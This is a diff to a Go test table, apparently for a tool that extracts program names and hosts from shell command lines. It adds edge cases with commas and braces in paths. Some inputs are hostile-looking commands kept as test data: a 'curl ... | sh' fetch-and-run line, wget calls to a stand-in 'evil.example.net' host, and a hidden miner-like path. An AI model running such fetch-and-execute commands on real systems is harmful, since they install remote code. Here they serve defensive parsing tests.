@@ -448,6 +448,14 @@ func TestPrograms(t *testing.T) {
 		{"test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", "test,run-parts", ""},
 		{"curl 203.0.113.77:8080/x", "curl", "203.0.113.77:8080/x"},
 		{"timeout -k 5 60 /usr/bin/a", "timeout,/usr/bin/a", ""},
+		// A name may hold what separates names elsewhere.
+		{"/usr/local/lib/k,d/xm,rig -o x", "/usr/local/lib/k,d/xm,rig", ""},
+		{`"/opt/{a,b}/m"`, "/opt/{a,b}/m", ""},
+		{"sh -c '/opt/a,b/run; /opt/c'", "sh,/opt/a,b/run,/opt/c", ""},
+		{"'/tmp/.x/a\nb' -c /c", "/tmp/.x/a\nb", ""},
+		{"curl 192.0.2.77/j,k|sh", "curl,sh", "192.0.2.77/j,k"},
+		{"wget -qO- evil.example.net:8080/a,b?x=1,2", "wget", "evil.example.net:8080/a,b?x=1,2"},
+		{"wget -qO- evil.example.net,other.example.net", "wget", ""},
 	} {
 		f := Analyze(tt.text)
 		if got := strings.Join(f.Programs, ","); got != tt.programs {
